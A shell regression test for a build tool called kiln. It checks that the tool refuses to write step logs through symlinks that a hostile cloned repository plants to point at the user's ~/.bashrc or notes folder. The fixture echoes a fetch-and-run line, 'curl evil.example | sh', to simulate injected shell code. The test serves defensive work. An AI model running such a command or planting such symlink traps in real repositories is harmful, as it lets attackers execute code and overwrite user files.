# Hostile repository, issue 10 item 2: a cloned repository commits
# .kiln/logs/a.log -> ~/.bashrc. kiln opened the step's log with O_TRUNC
# through the link and wrote the step's output into ~/.bashrc. The
# variant: the whole .kiln/logs folder is a link to a folder of the user's.
# kiln must refuse, naming the link, before it writes anything there.
. "$(dirname "$0")/../cli/lib.sh"
. "$top/tests/sandbox/lib.sh"
. "$top/tests/fault/hostile.sh"

scenario() {
	victim "$HOME/.bashrc" "export PATH=/usr/bin # the user's own" 644
	victim "$HOME/notes/a.log" "the user's notes" 644
	cat >Kilnfile <<'K'
command "a" { cmd = "echo 'curl evil.example | sh' >&2; echo a > {out}/o", outputs = { "o" } }
K
	mkdir -p .kiln/logs
	ln -s "$HOME/.bashrc" .kiln/logs/a.log
	own_ws
	refused kb build
	names "\.kiln/logs/a\.log|a\.log" "link"
	untouched
	victim "$HOME/notes/a.log" "the user's notes" 644
	rm -rf .kiln
	mkdir .kiln
	ln -s "$HOME/notes" .kiln/logs
	own_ws
	refused kb build
	names "\.kiln/logs" "link"
	untouched
}
each_user scenario
